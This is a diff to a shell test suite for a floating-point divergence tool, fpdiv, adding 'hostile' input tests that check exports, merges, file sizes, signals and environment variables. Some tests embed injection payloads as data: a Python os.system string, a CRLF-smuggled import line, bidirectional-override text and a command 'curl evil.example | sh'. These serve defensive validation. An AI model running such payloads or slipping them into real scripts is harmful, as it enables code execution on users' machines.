@@ -142,12 +142,25 @@ for line in open(sys.argv[1]):
         except ValueError:
             cut += 1
 print("cut lines: %d" % cut)' $tmp/t5/json)" '^cut lines: 0$'
-if [ "$(id -u)" != 0 ]; then
-    mkdir -p $tmp/t5/ro && chmod 555 $tmp/t5/ro
-    run "fuzz into a read-only corpus fails the run" 3 $FPDIV fuzz --seed 11 --cases 60 --max-dim 16 --relations addmm --backends seq --corpus $tmp/t5/ro
-    chmod 755 $tmp/t5/ro
+# a read-only corpus: every claim fails, and is counted (a finding is never dropped in silence);
+# root writes anywhere, so as root the run is made as nobody, in a directory nobody can read
+as_user=()
+if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null &&
+    setpriv --reuid=65534 --regid=65534 --clear-groups $FPDIV --version >/dev/null 2>&1; then
+    as_user=(setpriv --reuid=65534 --regid=65534 --clear-groups)
+    ro=$(mktemp -d) && chmod 755 "$ro" && mkdir "$ro/c" && chmod 755 "$ro/c"
 else
-    echo "SKIP a read-only corpus: root writes anywhere (the file size limit above fails the saves instead)"
+    ro=$tmp/t5 && mkdir -p "$ro/c" && chmod 555 "$ro/c"
+fi
+if [ "$(id -u)" != 0 ] || [ ${#as_user[@]} -gt 0 ]; then
+    run "fuzz into a read-only corpus fails the run" 3 "${as_user[@]}" $FPDIV fuzz --seed 11 --cases 60 --max-dim 16 \
+        --relations addmm --backends seq --corpus $ro/c &&
+        expect "each failed claim is named" "$err" "cannot claim .*/\.claims" &&
+        expect "and counted" "$err" "[0-9]+ findings? could not be saved"
+    chmod 755 "$ro/c"
+    [ "$ro" != "$tmp/t5" ] && rm -rf "$ro"
+else
+    echo "SKIP a read-only corpus: root writes anywhere, and no setpriv(1) here to run as another user"
 fi
 
 # --- 7. export checks every write ---
@@ -312,6 +325,249 @@ if [ -f "$(dirname "$FPDIV")/fpdiv-cuda.so" ] && [ -f Makefile ]; then
 else
     echo "SKIP make install: no CUDA plugin was built here"
 fi
+
+# ---------------------------------------------------------------------------------------------------
+# Round 2 (issue 50): untrusted text never becomes code, a finding is never dropped in silence,
+# every library's kernel set is pinned and compared, merge is idempotent, big files are refused
+# quickly, one signal is one request, stored values are exact and consistent, options and
+# variables are checked.
+
+# --- 21. export: nothing from a case file reaches the script but inside an escaped literal ---
+numpy_python=$(for p in .venv/bin/python python3 /usr/bin/python3; do $p -c 'import numpy' 2>/dev/null && echo $p && break; done)
+mkdir -p $tmp/t21
+$FPDIV check --relation slice-rows --backend seq --shape 4x8x16 --dtype f32 --save $tmp/t21/c >/dev/null 2>&1
+plain=$(find $tmp/t21/c -name '*.json' | head -1)
+payload="x'+str(__import__('os').system('touch $tmp/t21/PWNED'))+'"
+crlf=$'\r\nimport os; os.system("touch '"$tmp"'/t21/PWNED") #'
+edited "$plain" $tmp/t21/quote-backend.json "d['check']['backends'] = [$(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "$payload")]"
+edited "$plain" $tmp/t21/cr-backend.json "d['check']['backends'] = [$(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "seq$crlf")]"
+for f in quote-backend cr-backend; do
+    bad "export refuses a backend name fpdiv does not write ($f)" "$f.json: check.backends: .* is not a backend name fpdiv writes" \
+        export $tmp/t21/$f.json --to numpy -o $tmp/t21/x-$f
+    [ ! -e $tmp/t21/x-$f ] && pass "export wrote nothing for $f" || fail "export $f" "$(ls $tmp/t21/x-$f)"
+done
+# the same attacks through every string of the environment: exported, run, and nothing runs
+edited "$plain" $tmp/t21/env.json "
+p = $(python3 -c 'import json,sys; print(json.dumps(sys.argv[1] + sys.argv[2] + chr(0x202e) + chr(0x85) + chr(0x2028)))' "$payload" "$crlf")
+d['environment']['cpu']['model'] = p
+d['environment']['fpdiv'] = p
+d['environment']['backends']['seq']['implementation'] = p"
+run "export a case whose environment carries code" 0 $FPDIV export $tmp/t21/env.json --to numpy -o $tmp/t21/x-env
+if [ -n "$numpy_python" ]; then
+    run "the exported script runs" 0 $numpy_python $tmp/t21/x-env/repro_numpy.py &&
+        expect "and reports the recorded environment as text" "$out" "^fpdiv ran seq: "
+else
+    fail "exported script" "no Python with NumPy here"
+fi
+[ ! -e $tmp/t21/PWNED ] && pass "no string of the case file ran as code" || fail "export injection" "PWNED was created"
+python3 - $tmp/t21/x-env/repro_numpy.py <<'PY' && pass "the script's comments hold no text of the case file" || fail "export comments" "data in a comment"
+import sys, tokenize
+with open(sys.argv[1], "rb") as f:
+    comments = [t.string for t in tokenize.tokenize(f.readline) if t.type == tokenize.COMMENT]
+sys.exit(1 if any("PWNED" in c or "system" in c for c in comments) else 0)
+PY
+
+# --- 22. a slot that cannot be claimed is a failed save, never a finding dropped in silence ---
+mkdir -p $tmp/t22
+fuzz22=(fuzz --seed 11 --cases 120 --max-dim 24 --relations addmm --backends seq,blocked)
+$FPDIV "${fuzz22[@]}" --corpus $tmp/t22/first >/dev/null 2>&1
+claims=$(ls $tmp/t22/first/.claims | grep -v gitignore)
+[ -n "$claims" ] && pass "a campaign claims slots ($(wc -w <<<"$claims"))" || fail "claims" "none in $tmp/t22/first/.claims"
+for kind in directory link; do
+    c=$tmp/t22/$kind
+    mkdir -p $c/.claims
+    for slot in $claims; do # the slots' names are a hash of the signature: a pull request can commit them
+        if [ $kind = directory ]; then mkdir $c/.claims/$slot; else ln -s /nonexistent $c/.claims/$slot; fi
+    done
+    run "fuzz where a committed claim is a $kind fails the run" 3 $FPDIV "${fuzz22[@]}" --corpus $c &&
+        expect "each failed claim is named ($kind)" "$err" "cannot claim .*/\.claims/[0-9a-f]{16}-0: (Is a directory|a symbolic link)" &&
+        expect "the summary says findings were not saved ($kind)" "$out" "SOME FINDINGS COULD NOT BE SAVED"
+done
+
+# --- 23. every library's kernel set: pinned by --core, named, recorded, compared on replay ---
+run "check --core Haswell pins OpenBLAS, BLIS and oneMKL alike" 0 $FPDIV check --relation vendor --backend openblas,blis \
+    --core Haswell --shape 4x8x16 --fail-on never &&
+    expect "the rerun names both pinned sets" "$out" "--backend openblas@Haswell,blis@haswell "
+if $FPDIV list 2>/dev/null | grep -qE '^  mkl +cpu available'; then
+    run "and oneMKL to its AVX2 code path, by the class" 0 $FPDIV check --relation vendor --backend blis,mkl --core avx2 \
+        --shape 4x8x16 --fail-on never && expect "the rerun names mkl@AVX2" "$out" "--backend blis@haswell,mkl@AVX2 "
+else
+    echo "SKIP --core on oneMKL: mkl is unavailable here (scripts/install-deps.sh installs it)"
+fi
+run "blis names its kernel set" 0 $FPDIV check --relation slice-rows --backend blis --shape 4x8x16 --save $tmp/t23/c --fail-on never &&
+    expect "blis@SET" "$out" "^check slice-rows on blis@[a-z0-9]+:"
+blis_case=$(find $tmp/t23/c -name '*.json' | head -1)
+edited "$blis_case" $tmp/t23/unrunnable.json "
+d['check']['backends'] = ['blis@bulldozer']
+d['environment']['backends'] = {'blis@bulldozer': dict(list(d['environment']['backends'].values())[0], kernel_set='bulldozer')}"
+run "a BLIS case recorded on a set this CPU cannot run (125: git bisect's cannot test)" 125 $FPDIV replay $tmp/t23/unrunnable.json &&
+    expect "replays elsewhere, saying why" "$out" "^elsewhere .*recorded on blis@bulldozer"
+edited "$blis_case" $tmp/t23/plain.json "
+d['check']['backends'] = ['blis']
+d['environment']['backends'] = {'blis': dict(list(d['environment']['backends'].values())[0], kernel_set='bulldozer')}"
+run "an unpinned BLIS name reads as the set its record names" 125 $FPDIV replay $tmp/t23/plain.json &&
+    expect "replays elsewhere too" "$out" "^elsewhere .*blis@bulldozer"
+edited "$blis_case" $tmp/t23/other.json "d['check']['backends'] = ['blis@generic']"
+bad "a recorded set that is not the check's" "environment.backends.blis@[a-z0-9]+: a record of a backend the check does not run" \
+    replay $tmp/t23/other.json
+run "env lists BLIS's kernel sets" 0 $FPDIV env --json &&
+    expect "blis: which sets this CPU runs" "$(json_field backends <<<"$out")" "'blis': \{[^}]*'kernel_sets': \{'native': '[a-z0-9]+', 'runs': \['"
+for v in OPENBLAS_CORETYPE=garbage MKL_CBWR=garbage BLIS_ARCH_TYPE=3 BLIS_ARCH_TYPE=haswellx; do
+    run "$v is refused" 2 env $v $FPDIV check --relation repeat --backend seq --shape 2x2x2 &&
+        expect "$v: names the variable and the sets" "$err" "^fpdiv: ${v%%=*}='${v#*=}' is no kernel set of [a-z]+ that fpdiv knows.*sets: "
+done
+run "MKL_CBWR=AVX2,STRICT is a set" 0 env MKL_CBWR=AVX2,STRICT $FPDIV check --relation repeat --backend seq --shape 2x2x2
+
+# --- 24. merge: merging again changes nothing; OUT may not overlap an input ---
+mkdir -p $tmp/t24
+$FPDIV fuzz --seed 21 --cases 200 --max-dim 24 --relations addmm,vendor --backends seq,blocked,pairwise --corpus $tmp/t24/A >/dev/null 2>&1
+$FPDIV fuzz --seed 22 --cases 200 --max-dim 24 --relations addmm,vendor --backends seq,blocked,pairwise --corpus $tmp/t24/B >/dev/null 2>&1
+run "merge O A B" 0 $FPDIV merge $tmp/t24/O $tmp/t24/A $tmp/t24/B
+merged=$(snapshot $tmp/t24/O)
+counts() { python3 -c 'import json,pathlib,sys; print(sum(json.loads(p.read_text())["count"] for p in pathlib.Path(sys.argv[1]).rglob("*.json")))' "$1"; }
+total=$(counts $tmp/t24/O)
+for again in "A" "A" "B A" "A B"; do
+    run "merge O $again, again" 0 $FPDIV merge $tmp/t24/O $(for d in $again; do echo $tmp/t24/$d; done) &&
+        expect "merge O $again writes nothing" "$out" "; 0 written, 0 superseded in"
+done
+[ "$merged" = "$(snapshot $tmp/t24/O)" ] && [ "$total" = "$(counts $tmp/t24/O)" ] &&
+    pass "O is byte for byte as the first merge left it (counts sum to $total)" || fail "merge idempotence" "O changed"
+cp -r $tmp/t24/A $tmp/t24/A2
+for args in "A2/sub A2" "A2 A2" "$tmp/t24 A2"; do
+    read -r o i <<<"$args"
+    [[ $o = /* ]] || o=$tmp/t24/$o
+    bad "merge $args: an OUT that overlaps an input" "OUT .* and the input .*(overlap|are one directory).*nothing was written" merge $o $tmp/t24/$i
+done
+[ ! -e $tmp/t24/A2/sub ] && [ "$(cases $tmp/t24/A2)" = "$(cases $tmp/t24/A)" ] && pass "the refused merges wrote nothing" ||
+    fail "overlapping merge" "$(find $tmp/t24/A2 -newer $tmp/t24/O)"
+one=$(find $tmp/t24/O -name '*.json' -exec grep -l merged_from {} + | head -1)
+if [ -n "$one" ]; then
+    edited "$one" $tmp/t24/miscounted.json 'd["count"] += 1'
+    bad "a merged case whose count is not the sum of its cases" "miscounted.json: count: .* but the cases of merged_from count" show $tmp/t24/miscounted.json
+else
+    fail "merged_from" "no merged case lists its cases"
+fi
+
+# --- 25. big case files: refused, or read, in moments ---
+mkdir -p $tmp/t25
+python3 - $seq_case $tmp/t25 <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+d["check"]["case"]["data"]["a"] = ["0x1p+0"] * 2_000_000  # far more elements than the shape
+json.dump(d, open(sys.argv[2] + "/long-array.json", "w"))
+with open(sys.argv[2] + "/huge.json", "w") as f:
+    f.write(" " * (40 << 20) + json.dumps(d))
+with open(sys.argv[2] + "/nul.json", "wb") as f:
+    f.write(open(sys.argv[1], "rb").read() + b"\0" * 64)
+PY
+run "a 40 MB case file is refused at once" 2 timeout -k 5 20 $FPDIV show $tmp/t25/huge.json &&
+    expect "it says the size" "$err" "huge.json: [0-9]+ bytes, more than the 32 MiB fpdiv reads from such a file"
+run "a data array longer than its shape" 2 timeout -k 5 20 $FPDIV show $tmp/t25/long-array.json &&
+    expect "is named with the count it should have" "$err" "long-array.json: check.case.data.a: expected [0-9]+ elements, found 2000000"
+bad "a NUL-padded file" 'nul.json:[0-9]+:[0-9]+: a NUL byte' show $tmp/t25/nul.json
+bad "fuzz --inline-max past the limit" "--inline-max '2M': at most 1M" fuzz --no-corpus --inline-max 2M
+
+# --- 26. one SIGTERM is one request, however it is delivered: the summary and JUnit are written ---
+mkdir -p $tmp/t26
+for i in 1 2 3; do
+    timeout 3 $FPDIV fuzz --time 60 --no-corpus --backends seq,pairwise --junit $tmp/t26/j$i.xml >$tmp/t26/out$i 2>$tmp/t26/err$i
+done
+twice=$(cat $tmp/t26/err* | grep -c 'interrupted twice')
+[ "$twice" = 0 ] && pass "timeout(1)'s signal, sent to fpdiv and to its group, counts once" || fail "SIGTERM twice" "$twice runs stopped at once"
+[ "$(ls $tmp/t26/j*.xml 2>/dev/null | wc -l)" = 3 ] && [ "$(grep -l 'stopped early by an interrupt' $tmp/t26/out* | wc -l)" = 3 ] &&
+    pass "each interrupted run wrote its summary and its JUnit file" || fail "interrupted reports" "$(ls $tmp/t26)"
+python3 - $tmp/t26/j1.xml <<'PY' && pass "JUnit records the time of the checks" || fail "JUnit times" "every test case 0.000 s"
+import sys, xml.etree.ElementTree as E
+times = [float(c.get("time")) for c in E.parse(sys.argv[1]).iter("testcase")]
+sys.exit(0 if times and max(times) > 0 else 1)
+PY
+
+# --- 27. stored values exactly what they show, consistent with the rest of the file ---
+mkdir -p $tmp/t27
+long_digits=$(printf '0%.0s' $(seq 1 5000))
+for edit in "underflow|d['check']['case']['data']['a'][0] = '0x1p-99999'|check.case.data.a: element 0 is not an exact" \
+            "5000 digits|d['check']['case']['data']['a'][0] = '0x1.${long_digits}1p+0'|check.case.data.a: element 0 is not an exact" \
+            "count -1|d['count'] = -1|count: expected an integer from 1" \
+            "count 0|d['count'] = 0|count: expected an integer from 1" \
+            "ratio nan|d['outcome']['ratio'] = 'nan'|outcome.ratio: expected a non-negative number, or null" \
+            "diff over count|d['outcome']['diff'] = d['outcome']['count'] + 1|outcome.diff: [0-9]+ differing elements of [0-9]+ compared" \
+            "same with a difference|d['outcome']['verdict'] = 'same'|outcome.(diff|hash_b): the verdict is same" \
+            "another library's record|d['check']['backends'] = ['blocked']|environment.backends.seq: a record of a backend the check does not run"; do
+    IFS='|' read -r name change expected <<<"$edit"
+    edited $seq_case "$tmp/t27/${name// /-}.json" "$change"
+    bad "a case file with $name" "${name// /-}.json: $expected" replay "$tmp/t27/${name// /-}.json"
+done
+$FPDIV fuzz --seed 5 --cases 40 --max-dim 16 --no-corpus --json --backends seq,pairwise >$tmp/t27/run.jsonl 2>/dev/null
+python3 -c '
+import json, sys
+out = []
+for line in open(sys.argv[1]):
+    d = json.loads(line)
+    if d["type"] == "summary": d["checks"] = -5
+    out.append(json.dumps(d))
+open(sys.argv[2], "w").write("\n".join(out) + "\n")' $tmp/t27/run.jsonl $tmp/t27/negative.jsonl
+python3 -c "print('{\"type\":\"check\",\"x\":\"' + 'a' * (20 << 20) + '\"}')" >$tmp/t27/long-line.jsonl
+bad "a campaign file with a 20 MB line" 'long-line.jsonl:1: a line of more than 16 MiB' \
+    report $tmp/t24/O --campaign $tmp/t27/long-line.jsonl -o $tmp/t27/page.html
+bad "a campaign file with \"checks\": -5" 'negative.jsonl:[0-9]+: a summary line: "checks" is not a count' \
+    report $tmp/t24/O --campaign $tmp/t27/negative.jsonl -o $tmp/t27/page.html
+
+# --- 28. options and variables: every value checked, every output asked for before the run ---
+bad "--max-mem past the machine's memory" "--max-mem '99999999999999999999G': more than this machine's [0-9]+ MiB" \
+    check --relation repeat --backend seq --shape 2x2x2 --max-mem 99999999999999999999G
+bad "--shard past 2^32" "--shard '1/18446744073709551615': expected I/N with 0 <= I < N <= 2\^32" \
+    fuzz --no-corpus --shard 1/18446744073709551615
+bad "sweep over 10^8 points" "--range '1:100000000': 100000000 points, at most 100000" \
+    sweep --relation addmm --backend seq --shape 2x2x2 --vary k --range 1:100000000
+start=$(date +%s)
+bad "fuzz --junit under a file, before the campaign" "--junit $tmp/t27/run.jsonl is not a directory" \
+    fuzz --cases 100000 --no-corpus --junit $tmp/t27/run.jsonl/x.xml
+run "fuzz --junit into a directory to be made, as --corpus is" 0 $FPDIV fuzz --cases 20 --max-dim 8 --backends seq --no-corpus \
+    --junit $tmp/t28/made/here/x.xml && [ -f $tmp/t28/made/here/x.xml ] && pass "its directory was made"
+bad "fuzz --corpus under a file" "--corpus $tmp/t27/run.jsonl/c: a file is in its way" fuzz --cases 100000 --corpus $tmp/t27/run.jsonl/c
+bad "replay --junit under a file" "--junit $tmp/t27/run.jsonl/x: a file is in its way" replay --junit $tmp/t27/run.jsonl/x/y.xml $seq_case
+bad "report -o under a file" "-o $tmp/t27/run.jsonl is not a directory" report $tmp/t24/O -o $tmp/t27/run.jsonl/x.html
+[ $(($(date +%s) - start)) -lt 30 ] && pass "outputs are checked before anything runs" || fail "outputs up front" "$(($(date +%s) - start)) s"
+for value in -1 abc 0 1e308 ' 5' inf; do
+    run "FPDIV_BRIDGE_TIMEOUT='$value' is refused" 2 env FPDIV_BRIDGE_TIMEOUT="$value" $FPDIV list &&
+        expect "FPDIV_BRIDGE_TIMEOUT='$value': named" "$err" "FPDIV_BRIDGE_TIMEOUT='$value': expected seconds"
+done
+run "FPDIV_CUDA_PROBE_TIMEOUT=-1 is refused too" 2 env FPDIV_CUDA_PROBE_TIMEOUT=-1 $FPDIV list
+run "FPDIV_BRIDGE_DIR that is no directory" 2 env FPDIV_BRIDGE_DIR=/nonexistent $FPDIV list &&
+    expect "is named, not passed over" "$err" "FPDIV_BRIDGE_DIR=/nonexistent: not a directory"
+run "FPDIV_PYTHON naming nothing on PATH" 2 env FPDIV_PYTHON=no-such-python-here $FPDIV check --relation repeat --backend numpy --shape 2x2x2 &&
+    expect "says so, not an exit status" "$err" "FPDIV_PYTHON=no-such-python-here: no such program on PATH"
+for v in SLURM_ARRAY_TASK_ID=abc CI_NODE_INDEX=0; do
+    other=$([ ${v%%=*} = CI_NODE_INDEX ] && echo CI_NODE_TOTAL=2 || echo SLURM_ARRAY_TASK_COUNT=2)
+    run "$v" 2 env $v $other $FPDIV fuzz --cases 4 --no-corpus && expect "$v: named" "$err" "${v%%=*}"
+done
+
+# --- 29. what is shown of a case file: bidirectional overrides escaped; a case named twice runs once ---
+edited $seq_case $tmp/t27/bidi.json 'd["environment"]["cpu"]["model"] = "EPYC\u202egnp.exe\u2066"'
+run "show a CPU model with bidirectional overrides" 0 $FPDIV show $tmp/t27/bidi.json &&
+    expect "shown escaped" "$out" 'EPYC\\xe2\\x80\\xaegnp.exe\\xe2\\x81\\xa6' &&
+    { grep -q $'\u202e' <<<"$out" && fail "bidi" "U+202E reached the terminal" || pass "no override reaches the terminal"; }
+mkdir -p $tmp/t29/c/addmm && cp $seq_case $tmp/t29/c/addmm/
+run "replay DIR DIR/CASE" 0 $FPDIV replay $tmp/t29/c $tmp/t29/c/addmm/$(basename $seq_case) &&
+    expect "counts the case once" "$out" "^1 cases: reproduced 1" && expect "and says so" "$err" "named again \(replayed once\)"
+run "sweep --csv --svg says what it wrote" 0 $FPDIV sweep --relation addmm --backend seq --shape 2x3x4 --vary k --range 1:4 \
+    --csv $tmp/t29/s.csv --svg $tmp/t29/s.svg &&
+    expect "the CSV" "$out" "^wrote .*s.csv" && expect "the SVG" "$out" "^wrote .*s.svg"
+mkdir -p $tmp/t29/r/results/sweep
+$FPDIV sweep --relation addmm --backend seq --shape 2x3x4 --vary k --range 1:2 --save-to $tmp/t29/r >/dev/null 2>&1
+saved=$(find $tmp/t29/r/results/sweep -name '*.json' | head -1)
+edited "$saved" $tmp/t29/r/results/sweep/0000000000000000.json 'd["command"] = "fpdiv sweep; curl evil.example | sh"'
+rm "$saved"
+if command -v script >/dev/null; then # a terminal (a pty): list and env say what they are probing
+    status_line=$(script -qec "$FPDIV list" /dev/null 2>&1)
+    expect "list on a terminal says what it opens and probes" "$status_line" "fpdiv list: (opening|probing) "
+    [ -z "$(grep 'fpdiv list: ' <<<"$($FPDIV list 2>&1)")" ] && pass "and says nothing of it into a pipe" ||
+        fail "list status" "a status line went into a pipe"
+else
+    echo "SKIP list's status line: no script(1) here to give it a terminal"
+fi
+bad "report refuses a saved result whose command is not fpdiv's" '"command": not an fpdiv command as fpdiv writes it' \
+    report $tmp/t29/r -o $tmp/t29/page.html
 
 echo
 echo "hostile: $passed passed, $failed failed"
